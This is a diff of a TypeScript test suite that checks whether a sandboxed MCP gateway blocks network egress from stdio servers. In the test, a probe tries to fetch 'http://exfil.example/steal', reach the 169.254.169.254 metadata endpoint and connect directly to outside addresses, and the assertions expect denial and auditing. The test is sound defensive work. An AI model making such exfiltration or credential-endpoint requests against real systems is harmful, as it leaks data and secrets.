@@ -71,11 +71,12 @@ ${extra}`,
   );
 }
 
-async function gateway(
+/** `perimeter mcp` over stdio for the test's place, with the SDK's client in front. */
+async function connectGateway(
   t: TestContext,
   p: Place,
   policyFile: string,
-): Promise<(action: string, target: string) => Promise<string>> {
+): Promise<{ client: Client; stderr: () => string }> {
   const transport = new StdioClientTransport({
     command: process.execPath,
     args: [
@@ -99,12 +100,22 @@ async function gateway(
   const client = new Client({ name: 'mcp-sandbox-test', version: '1.0.0' });
   await client.connect(transport, { timeout: TIMEOUT });
   t.after(() => client.close());
+  return { client, stderr: () => stderr };
+}
+
+/** The probe server behind the gateway: each call answers what one action came to. */
+async function gateway(
+  t: TestContext,
+  p: Place,
+  policyFile: string,
+): Promise<(action: string, target: string) => Promise<string>> {
+  const { client, stderr } = await connectGateway(t, p, policyFile);
   return async (action, target) => {
     const r = await client.callTool({ name: 'probe__probe', arguments: { action, target } }, undefined, {
       timeout: TIMEOUT,
     });
     const first = (r.content as { type: string; text?: string }[])[0];
-    assert.equal(first?.type, 'text', `a text result; stderr: ${stderr}`);
+    assert.equal(first?.type, 'text', `a text result; stderr: ${stderr()}`);
     return first?.text ?? '';
   };
 }
@@ -191,10 +202,9 @@ void describe('stdio MCP servers run in a sandbox of their own', () => {
       const host = await listener(t);
       const probe = await gateway(t, p, policy(p));
       assert.match(await probe('connect', `127.0.0.1 ${host.port}`), /^(ECONNREFUSED|ENETUNREACH)$/);
-      assert.match(
-        await probe('connect', `10.255.255.1 80`),
-        /^(ECONNREFUSED|ENETUNREACH|EHOSTUNREACH|CONNECTED)$/,
-      );
+      // The namespace has no route out; only ports 80 and 443 are captured, and sent to the proxy.
+      assert.match(await probe('connect', '10.255.255.1 81'), /^(ECONNREFUSED|ENETUNREACH|EHOSTUNREACH)$/);
+      await probe('connect', '10.255.255.1 80');
       assert.equal(await probe('fetch', 'http://exfil.example/steal'), '403');
       assert.equal(host.connections(), 0, 'the host listener was never reached');
       const denied = events(p).filter((e) => e.request?.surface === 'network' && e.decision === 'deny');
@@ -203,6 +213,10 @@ void describe('stdio MCP servers run in a sandbox of their own', () => {
           (e) => e.request?.resource.startsWith('exfil.example:80') && e.outcome?.mcp_server === 'probe',
         ),
         `the denial is audited and names the server: ${JSON.stringify(denied)}`,
+      );
+      assert.ok(
+        denied.some((e) => e.request?.resource === '10.255.255.1:80' && e.outcome?.mcp_server === 'probe'),
+        `the captured direct connection is decided by the proxy: ${JSON.stringify(denied)}`,
       );
     },
   );
@@ -227,20 +241,9 @@ mcp:
     - { id: all, server: "*" }
 `,
       );
-      const transport = new StdioClientTransport({
-        command: process.execPath,
-        args: [BIN, 'mcp', '--policy', file, '--audit', p.audit, '--workspace', p.workspace],
-        env: { ...getDefaultEnvironment(), XDG_STATE_HOME: p.state, NO_COLOR: '1' },
-        cwd: p.workspace,
-        stderr: 'pipe',
-      });
-      let stderr = '';
-      transport.stderr?.on('data', (c: Buffer) => (stderr += c.toString()));
-      const client = new Client({ name: 'mcp-sandbox-test', version: '1.0.0' });
-      await client.connect(transport, { timeout: TIMEOUT });
-      t.after(() => client.close());
+      const { client, stderr } = await connectGateway(t, p, file);
       assert.deepEqual((await client.listTools(undefined, { timeout: TIMEOUT })).tools, []);
-      assert.match(stderr, /metadata is unavailable .*egress proxy refused 169\.254\.169\.254:443/);
+      assert.match(stderr(), /metadata is unavailable .*egress proxy refused 169\.254\.169\.254:443/);
       await client.close();
       const denied = events(p).filter((e) => e.request?.surface === 'network');
       assert.ok(denied.length > 0, 'the attempt is audited');
